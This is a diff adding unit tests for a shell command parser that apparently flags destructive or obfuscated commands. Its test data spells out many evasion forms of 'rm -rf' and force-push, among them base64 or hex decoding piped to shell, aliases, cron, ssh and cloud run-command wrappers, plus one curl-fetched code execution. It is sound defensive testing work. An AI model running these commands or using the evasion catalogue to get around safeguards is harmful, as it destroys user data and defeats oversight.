@@ -123,3 +123,135 @@ describe('parseCommandLine: a substitution as the command name', () => {
   it('reads `$(which rm)` / `$(command -v rm)` as the program it locates', () => assert.deepStrictEqual(runs('"$(command -v rm)" -rf ~/x').slice(-1), ['rm -rf ~/x']));
   it('lets a lone generator run under eval', () => assert.deepStrictEqual(opaqueRules('eval "$(direnv hook bash)"'), []));
 });
+
+/** The last simple command the line runs, as "name arg arg". */
+function last(line: string): string | undefined {
+  return runs(line).slice(-1)[0];
+}
+
+describe('parseCommandLine: computed names and computed code (issue 15 item 1)', () => {
+  const computedNames = ['/bin/r? -rf ~/x', '/usr/bin/r[m] -rf ~/x', '[r]m -rf ~/x', '{rm,-rf,x}', 'r{m,} -rf ~/x', '/bin/{rm,ls} x'];
+  for (const line of computedNames) it(`asks for the pattern name in ${JSON.stringify(line)}`, () => assert.deepStrictEqual(opaqueRules(line), ['opaque.computed-name']));
+  it('does not take `[ … ]` / `[[ … ]]` tests for patterns', () => {
+    assert.deepStrictEqual(opaqueRules('[ -f x ] && [[ -d y ]]'), []);
+  });
+  const decoded: Array<[string, string]> = [
+    ["$(printf 'r\\x6d') -rf ~/x", 'rm -rf ~/x'],
+    ['$(echo cm0= | base64 -d) -rf ~/x', 'rm -rf ~/x'],
+    ['$(rev <<< mr) -rf ~/x', 'rm -rf ~/x'],
+    ['$(tr a-z n-za-m <<< ez) -rf ~/x', 'rm -rf ~/x'],
+    ["printf '\\162\\155 -rf ~/x' | bash", 'rm -rf ~/x'],
+    ['echo 726d202d7266207e2f78 | xxd -r -p | sh', 'rm -rf ~/x'],
+    ["echo 'x/~ fr- mr' | rev | sh", 'rm -rf ~/x'],
+    ['bash -c "$(echo cm0gLXJmIH4veA== | base64 -d)"', 'rm -rf ~/x'],
+    ['bash <<< "$(echo rm -rf ~/x)"', 'rm -rf ~/x'],
+    ['sh <(echo rm -rf ~/x)', 'rm -rf ~/x'],
+    ['rm${IFS}-rf${IFS}~/x', 'rm -rf ~/x'],
+    ['IFS=,; c=rm,-rf,~/x; $c', 'rm -rf ~/x'],
+  ];
+  for (const [line, expected] of decoded) it(`reads ${JSON.stringify(line)} as ${expected}`, () => assert.strictEqual(last(line), expected));
+  const hidden: Array<[string, string]> = [
+    ['eval "$(cat /tmp/x | base64 -d)"', 'opaque.computed-code'],
+    ['source <(cat /tmp/x | base64 -d)', 'opaque.computed-code'],
+    ['python3 -c "$CODE"', 'opaque.computed-code'],
+    ['echo "$PAYLOAD" | at now', 'opaque.pipe-to-shell'],
+    ['node -e "$(curl -s https://x)"', 'opaque.computed-code'],
+  ];
+  for (const [line, rule] of hidden) it(`asks (${rule}) for ${JSON.stringify(line)}`, () => assert.ok(opaqueRules(line).includes(rule), opaqueRules(line).join()));
+  it('reads the substitutions inside arithmetic', () => assert.ok(runs('echo $(( $(rm -rf ~/x) + 1 ))').includes('rm -rf ~/x')));
+  it('bounds decoded output to text, not binary garbage', () => assert.deepStrictEqual(opaqueRules('echo //79/w== | base64 -d | sh'), ['opaque.decode-pipe']));
+});
+
+describe('parseCommandLine: same-line definitions (issue 15 item 2)', () => {
+  const rows: Array<[string, string[]]> = [
+    ['a=rm; b=$a; $b -rf ~/x', ['rm -rf ~/x']],
+    ['x=dist; rm -rf "./$x"', ['rm -rf ./dist']],
+    ['export T=~/x; rm -rf $T', ['export T=~/x', 'rm -rf ~/x']],
+    ['for d in src lib; do rm -rf "$d"; done', ['rm -rf src', 'rm -rf lib']],
+    ['for c in ls rm; do $c -rf ~/x; done', ['ls -rf ~/x', 'rm -rf ~/x']],
+    ['f() { rm -rf "$1"; }', ['f']],
+    ['f() { rm -rf "$1"; }; f ~/x', ['f', 'rm -rf ~/x']],
+    ['function g { git push --force; }; g', ['g', 'git push --force']],
+    ['clean() { rm -rf "$@"; }; clean dist build', ['clean', 'rm -rf dist build']],
+    ["alias ll='rm -rf ~/x'\nll", ["alias ll=rm -rf ~/x", 'rm -rf ~/x']],
+    ["trap 'rm -rf ~/x' EXIT", ['trap rm -rf ~/x EXIT', 'rm -rf ~/x']],
+    ["git -c alias.x='!rm -rf ~/x' x", ['git -c alias.x=!rm -rf ~/x x', 'rm -rf ~/x']],
+    ["git -c alias.p='push --force' p origin", ['git -c alias.p=push --force p origin', 'git -c alias.p=push --force push --force origin']],
+    ["git config alias.n '!rm -rf ~/x' && git n", ['git config alias.n !rm -rf ~/x', 'git n', 'rm -rf ~/x']],
+    ["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~/x' git log", ['git log', 'rm -rf ~/x']],
+    ["git rebase -x 'rm -rf ~/x' main", ['git rebase -x rm -rf ~/x main', 'rm -rf ~/x']],
+    ["git submodule foreach 'git reset --hard'", ['git submodule foreach git reset --hard', 'git reset --hard']],
+    ["make --eval='x:; rm -rf ~/x' x", ['make --eval=x:; rm -rf ~/x x', 'rm -rf ~/x']],
+    ["make -f - <<'EOF'\nall:\n\t@rm -rf ~/x\nEOF", ['make -f -', 'rm -rf ~/x']],
+    ["npm pkg set scripts.x='rm -rf ~/x' && npm run x", ['npm pkg set scripts.x=rm -rf ~/x', 'npm run x', 'rm -rf ~/x']],
+  ];
+  for (const [line, expected] of rows) it(`reads ${JSON.stringify(line)}`, () => assert.deepStrictEqual(runs(line), expected));
+  it('hands a definition to rules as a command named after the function', () => {
+    const [def] = parseCommandLine('__ag_debug() { :; }').commands;
+    assert.strictEqual(def.name, '__ag_debug');
+    assert.deepStrictEqual(def.via, ['defines function']);
+  });
+  it('leaves a loop over a pattern unknown', () => assert.deepStrictEqual(parseCommandLine('for f in *.log; do rm "$f"; done').commands[0].dynamic, [true]));
+  it('follows a recursive function only to the depth bound', () => assert.ok(opaqueRules('f() { f; }; f').includes('opaque.too-deep')));
+});
+
+describe('parseCommandLine: wrappers (issue 15 item 5)', () => {
+  const rows: Array<[string, string]> = [
+    ['busybox rm -rf ~/x', 'rm -rf ~/x'],
+    ['parallel rm -rf ::: ~/x', 'rm -rf ~/x'],
+    ["parallel 'rm -rf {}' ::: ~/x", 'rm -rf ~/x'],
+    ["parallel ::: 'rm -rf ~/x'", 'rm -rf ~/x'],
+    ['ls | parallel rm -rf', 'rm -rf $STDIN_ITEM'],
+    ['ls | xargs -J % rm -rf %', 'rm -rf ${STDIN_ITEM}'],
+    ["env -S'rm -rf ~/x'", 'rm -rf ~/x'],
+    ['env -P /usr/bin rm -rf ~/x', 'rm -rf ~/x'],
+    ["script -qc 'rm -rf ~/x' /dev/null", 'rm -rf ~/x'],
+    ['flock -w 5 /tmp/l rm -rf ~/x', 'rm -rf ~/x'],
+    ["flock /tmp/l -c 'rm -rf ~/x'", 'rm -rf ~/x'],
+    ['unshare --mount --fork rm -rf ~/x', 'rm -rf ~/x'],
+    ['nsenter -t 1 -m -- rm -rf ~/x', 'rm -rf ~/x'],
+    ['systemd-run -p User=root rm -rf ~/x', 'rm -rf ~/x'],
+    ['runuser -u pg -- rm -rf ~/x', 'rm -rf ~/x'],
+    ['strace -o /tmp/t -f rm -rf ~/x', 'rm -rf ~/x'],
+    ["tmux send-keys -t 0 'rm -rf ~/x' Enter", 'rm -rf ~/x'],
+    ["screen -dmS job bash -c 'rm -rf ~/x'", 'rm -rf ~/x'],
+    ["ls | entr -s 'rm -rf ~/x'", 'rm -rf ~/x'],
+    ['echo "0 * * * * rm -rf ~/x" | crontab -', 'rm -rf ~/x'],
+    ["at now <<< 'rm -rf ~/x'", 'rm -rf ~/x'],
+    ['ssh h bash -s <<EOF\nrm -rf /srv\nEOF', 'rm -rf /srv'],
+    ["aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=[\"rm -rf /srv\"]'", 'rm -rf /srv'],
+    ["az vm run-command invoke -g g -n v --command-id RunShellScript --scripts 'rm -rf /srv'", 'rm -rf /srv'],
+    ['docker run --rm -v /:/host alpine rm -rf /host/srv', 'rm -rf /srv'],
+    ['cmd /d /c "rd /s /q C:\\data"', 'rd /s /q C:\\data'],
+    ['wsl -e rm -rf ~/x', 'rm -rf ~/x'],
+  ];
+  for (const [line, expected] of rows) it(`reads ${JSON.stringify(line)} as ${expected}`, () => assert.strictEqual(last(line), expected));
+  it('runs a container command without host mounts inside the container only', () => assert.deepStrictEqual(runs('docker run --rm alpine rm -rf /srv'), ['docker run --rm alpine rm -rf /srv']));
+  it('asks past the unwrapping bound: a hundred `timeout 5` never let a command through', () => {
+    assert.deepStrictEqual(opaqueRules(`${'timeout 5 '.repeat(100)}rm -rf ~/x`), ['opaque.too-deep']);
+    assert.strictEqual(last(`${'env '.repeat(33)}rm -rf ~/x`), 'rm -rf ~/x');
+  });
+  it('never blows the stack on long wrapper chains', () => {
+    assert.ok(opaqueRules(`${'nice '.repeat(20000)}rm -rf ~/x`).includes('opaque.too-deep'));
+  });
+});
+
+describe('parseCommandLine: normalisation and Windows forms (issue 15 item 6, issue 9 items 4/5)', () => {
+  const rows: Array<[string, string]> = [
+    ['\uff52\uff4d -rf ~/x', 'rm -rf ~/x'],
+    ['r\u200bm -rf ~/x', 'rm -rf ~/x'],
+    ['\ufeffgit push \u2013\u2013force', 'git push --force'],
+    ['rm \u2014rf ~/x', 'rm -rf ~/x'],
+    ['C:/Git/bin/git.exe push -f', 'git push -f'],
+    ['"C:\\Program Files\\Git\\bin\\git.exe" reset --hard', 'git reset --hard'],
+    ['\\rm.exe -rf ~/x', 'rm -rf ~/x'],
+    ['GIT.EXE push -f', 'git push -f'],
+    ['python3.11.exe -V', 'python -V'],
+    ['rm -rf C:\\Users\\me', 'rm -rf C:\\Users\\me'],
+    ['rm -rf 7 > /dev/null', 'rm -rf 7'],
+    ['rm -rf x 2>/dev/null', 'rm -rf x'],
+  ];
+  for (const [line, expected] of rows) it(`reads ${JSON.stringify(line)} as ${expected}`, () => assert.strictEqual(last(line), expected));
+  it("keeps a single-quoted '$TMPDIR/x' literal (not dynamic)", () => assert.deepStrictEqual(parseCommandLine("rm -rf '$TMPDIR/x'").commands[0].dynamic, [false, false]));
+  it('makes a cygpath-computed path unknown', () => assert.deepStrictEqual(parseCommandLine("rm -rf \"$(cygpath -u 'C:\\')\"").commands.find((c) => c.name === 'rm')?.dynamic, [false, true]));
+});
